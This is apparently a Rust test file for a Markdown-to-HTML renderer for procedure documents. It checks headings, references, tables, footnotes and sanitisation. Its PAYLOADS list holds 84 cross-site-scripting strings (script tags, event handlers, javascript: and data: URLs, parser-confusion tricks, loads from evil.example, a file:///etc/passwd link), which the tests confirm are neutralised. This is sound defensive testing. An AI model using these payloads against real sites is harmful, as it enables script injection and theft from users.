//! What the renderer writes, and that nothing executable ever survives it.

use super::*;

fn resolve(text: &str) -> Reference {
    let (code, clause) = split_reference(text);
    match code {
        "QP-08" => Reference::Found {
            href: format!("/documents/QP-08{}", clause.map(|c| format!("#{}", clause_anchor(c))).unwrap_or_default()),
            title: "客户投诉处理程序".to_owned(),
        },
        code if code.starts_with("QP-") => Reference::Dangling,
        _ => Reference::NotACode,
    }
}

fn file(path: &str) -> Option<String> {
    (path.starts_with("assets/")).then(|| format!("/files/{path}"))
}

fn options() -> RenderOptions<'static> {
    RenderOptions { title: Some("客户投诉处理程序"), labels: Labels::default(), file: &file }
}

fn html(text: &str) -> String {
    render(text, &resolve, &options()).unwrap().html
}

#[test]
fn headings_carry_numbers_and_anchors() {
    let page = render("# 客户投诉处理程序\n\n## 5 流程\n\n### 5.3 升级处理\n\ntext\n\n## Annex\n", &resolve, &options()).unwrap();
    assert!(page.html.contains(r##"<h2 id="c5"><a class="no" href="#c5">5</a>流程</h2>"##), "{}", page.html);
    assert!(page.html.contains(r##"<h3 id="c53"><a class="no" href="#c53">5.3</a>升级处理</h3>"##));
    assert!(page.html.contains(r#"<h2 id="h3">Annex</h2>"#));
    assert!(!page.html.contains("<h1") && !page.html.contains("客户投诉处理程序"));
    let toc: Vec<_> = page.toc.iter().map(|e| (e.level, e.number.as_deref(), e.title.as_str(), e.anchor.as_str())).collect();
    assert_eq!(toc, [(2, Some("5"), "流程", "c5"), (3, Some("5.3"), "升级处理", "c53"), (2, None, "Annex", "h3")]);
    assert_eq!(page.plain, "5 流程\n5.3 升级处理\ntext\nAnnex");
}

#[test]
fn heading_with_markup_keeps_it() {
    let page = render("## 4.2 The **owner** `x`", &resolve, &options()).unwrap();
    assert!(page.html.contains("4.2</a>The <strong>owner</strong> <code>x</code></h2>"), "{}", page.html);
    assert_eq!(page.toc[0].title, "The owner x");
    assert_eq!(html("## \n\ntext"), "<p>text</p>\n");
}

#[test]
fn references_are_links_or_marked() {
    let text = "见 [QP-08]、[QP-08 5.3]、[QP-99]，[备注]，`[QP-08]`。\n\n再见 [QP-99]";
    let page = render(text, &resolve, &options()).unwrap();
    assert!(page.html.contains(r#"<a class="ref" href="/documents/QP-08" title="客户投诉处理程序">QP-08</a>"#), "{}", page.html);
    assert!(page.html.contains(r##"href="/documents/QP-08#c53""##));
    assert!(page.html.contains(r#"<span class="dangling" title="No such document">[QP-99]</span>"#));
    assert!(page.html.contains("[备注]") && page.html.contains("<code>[QP-08]</code>"));
    let found: Vec<_> = page.references.iter().map(|r| (r.code.as_str(), r.clause.as_deref(), r.exists, r.line)).collect();
    assert_eq!(found, [("QP-08", None, true, 1), ("QP-08", Some("5.3"), true, 1), ("QP-99", None, false, 1)]);
    assert!(page.plain.starts_with("见 QP-08、QP-08 5.3、QP-99"), "{}", page.plain);
}

#[test]
fn a_defined_or_inline_link_is_not_a_reference() {
    assert!(html("[QP-08](https://a.example)").contains(r#"<a class="ext" href="https://a.example" rel="noopener noreferrer">"#));
    assert!(html("[QP-08]\n\n[QP-08]: /x").contains(r#"<a href="/x">QP-08</a>"#));
}

#[test]
fn tables_scroll_and_name_their_headers() {
    let page = html("## 2 时限\n\n| 程度 | 时限 |  |\n|---|---:|:-:|\n| 严重 | 1 | x |\n");
    assert!(page.contains(r#"<div class="scroll" tabindex="0" role="region" aria-label="Table 1: 时限">"#), "{page}");
    assert!(page.contains(r#"<th scope="col">程度</th><th scope="col" class="num">时限</th><td class="mid"></td>"#), "{page}");
    assert!(page.contains(r#"<tr><td>严重</td><td class="num">1</td><td class="mid">x</td></tr>"#), "{page}");
    let headless = html("|  |  |\n|--|--|\n| **Owner** | CSQ |\n");
    assert!(!headless.contains("thead"), "{headless}");
    assert!(headless.contains(r#"<tr><th scope="row"><strong>Owner</strong></th><td>CSQ</td></tr>"#), "{headless}");
}

#[test]
fn images_and_files_stay_inside() {
    assert_eq!(
        html("![流程图](assets/flow.png \"t\")"),
        "<p><img src=\"/files/assets/flow.png\" alt=\"流程图\" loading=\"lazy\" title=\"t\"></p>\n"
    );
    assert!(
        html("![logo](https://a.example/x.png)")
            .contains(r#"<a class="ext" href="https://a.example/x.png" rel="noopener noreferrer">logo</a>"#)
    );
    assert!(html("![gone](img/gone.png)").contains(r#"<span class="missing" title="File missing: img/gone.png">gone</span>"#));
    assert!(html("[plan](assets/plan.pdf)").contains(r#"<a href="/files/assets/plan.pdf">plan</a>"#));
    assert!(html("[plan](old/plan.pdf)").contains(r#"<span class="missing" title="File missing: old/plan.pdf">plan</span>"#));
    assert!(html("[top](#c5)").contains(r##"<a href="#c5">top</a>"##));
    assert!(html("[![logo](https://a.example/x.png)](https://b.example)").contains(">logo</a>"));
}

#[test]
fn blocks_are_written() {
    assert_eq!(html("a\nb"), "<p>a\nb</p>\n");
    assert_eq!(html("a\r\n\r\nb\rc"), "<p>a</p>\n<p>b\nc</p>\n");
    assert_eq!(html("规定客户\n投诉"), "<p>规定客户投诉</p>\n");
    assert_eq!(html("~~x~~ *y* **z**"), "<p><s>x</s> <em>y</em> <strong>z</strong></p>\n");
    assert_eq!(html("3. a\n4. b"), "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n");
    assert_eq!(html("```rust\n<a> & \"b\"\n```"), "<pre tabindex=\"0\"><code>&lt;a&gt; &amp; \"b\"\n</code></pre>\n");
    assert_eq!(html("a \u{FDD1}b\u{FDD0}lt;"), "<p>a \u{FFFD}b\u{FFFD}lt;</p>\n", "reserved characters are no back door");
    assert_eq!(html("&lt;b&gt; &amp;amp; \\<i>"), "<p>&lt;b&gt; &amp;amp; &lt;i&gt;</p>\n");
    assert_eq!(html("> q\n\n---"), "<blockquote>\n<p>q</p>\n</blockquote>\n<hr>\n");
    assert_eq!(html("a<br>b<b>c</b><!-- x -->"), "<p>a<br>\nbc</p>\n");
    assert_eq!(html("<div>\nhidden\n</div>\n\nshown"), "<p>shown</p>\n");
    assert!(html("- [x] a\n- [ ] b").contains(r#"<li><span class="task" role="img" aria-label="done">☑</span> a</li>"#));
    assert!(html("<https://a.example> <a@b.example>").contains(r#"<a href="mailto:a@b.example">a@b.example</a>"#));
}

#[test]
fn footnotes_come_last_in_order_of_reference() {
    let page = html("a[^2] b[^1] c[^2]\n\n[^1]: one\n\n[^2]: two\n\n[^3]: [QP-08]\n");
    assert!(page.contains(r##"a<sup class="fn" id="fnr1"><a href="#fn1">1</a></sup> b"##), "{page}");
    assert!(page.contains(r##"c<sup class="fn"><a href="#fn1">1</a></sup>"##), "{page}");
    let section = &page[page.find("<section").unwrap()..];
    assert!(section.find("two").unwrap() < section.find("one").unwrap());
    assert!(section.contains("Back to the text 1"), "{section}");
    assert!(section.contains(">QP-08</a>"), "unreferenced footnotes keep their text");
}

/// Payloads that try to run script or to leave the page.
const PAYLOADS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" />",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](\\\\evil.example\\a)",
    "[x](/\\evil.example)",
    "[x](blob:https://a.example/1)",
    "[x](about:blank)",
    "[x](https://a.example \"\" onmouseover=\"alert(1)\")",
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;utf8,<svg/onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](assets/a.png)",
    "![x](assets/a.png \"y\\\" onerror=\\\"alert(1)\")",
    "![x](assets/\"onerror=alert(1)//.png)",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "## <img src=x onerror=alert(1)> 5",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[^<script>alert(1)</script>]: x\n\n[^<script>alert(1)</script>]",
    "[QP-<img src=x onerror=alert(1)>]",
];

/// Every tag and attribute of the output, so that the check does not depend on how a payload is spelled.
fn assert_inert(payload: &str, page: &str) {
    let allowed_tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "div",
        "em",
        "h2",
        "h3",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "section",
        "span",
        "strong",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let fragment = scan_tags(page);
    for (tag, attributes) in fragment {
        assert!(allowed_tags.contains(&tag.as_str()), "<{tag}> from {payload:?}: {page}");
        for (name, value) in attributes {
            assert!(!name.starts_with("on") && name != "style" && name != "srcset", "{name} from {payload:?}: {page}");
            let address = ["href", "src"].contains(&name.as_str());
            assert!(!address || safe_href(&value).is_some(), "{name}={value} from {payload:?}: {page}");
        }
    }
}

/// A strict reading of sanitised HTML: every `<` starts a tag, every attribute value is in double quotes.
fn scan_tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    for piece in page.split('<').skip(1) {
        let (inside, _) = piece.split_once('>').expect("a tag is closed");
        if let Some(closing) = inside.strip_prefix('/') {
            tags.push((closing.to_owned(), Vec::new()));
            continue;
        }
        let (name, mut rest) = inside.split_once(' ').unwrap_or((inside, ""));
        let mut attributes = Vec::new();
        while let Some((attribute, tail)) = rest.split_once("=\"") {
            let (value, tail) = tail.split_once('"').expect("a value is quoted");
            attributes.push((attribute.trim().to_owned(), value.replace("&amp;", "&")));
            rest = tail;
        }
        assert!(rest.trim().is_empty(), "loose attribute in <{inside}>");
        tags.push((name.to_owned(), attributes));
    }
    tags
}

#[test]
fn nothing_executable_survives() {
    for payload in PAYLOADS {
        for text in [payload.to_owned(), format!("> - {payload}"), format!("text {payload} text\n\n## {payload}")] {
            assert_inert(payload, &html(&text));
        }
    }
}

#[test]
fn hostile_titles_from_the_resolver_are_escaped() {
    let hostile = |_: &str| Reference::Found { href: "javascript:alert(1)".into(), title: "\"><script>".into() };
    let page = render("[QP-08]", &hostile, &options()).unwrap().html;
    assert_inert("resolver", &page);
    let hostile = |_: &str| Reference::Found { href: "/a\"b".into(), title: "\"><script>".into() };
    let page = render("[QP-08]", &hostile, &options()).unwrap().html;
    assert!(page.contains("title=\"&quot;"), "{page}");
    assert_inert("resolver", &page);
}

#[test]
fn reference_texts_split() {
    assert_eq!(split_reference("QP-08 5.3"), ("QP-08", Some("5.3")));
    assert_eq!(split_reference("CSC PR.013"), ("CSC PR.013", None));
    assert_eq!(split_reference("QP-08"), ("QP-08", None));
    assert_eq!(split_reference("SHT/SAL/P-05 4"), ("SHT/SAL/P-05", Some("4")));
}
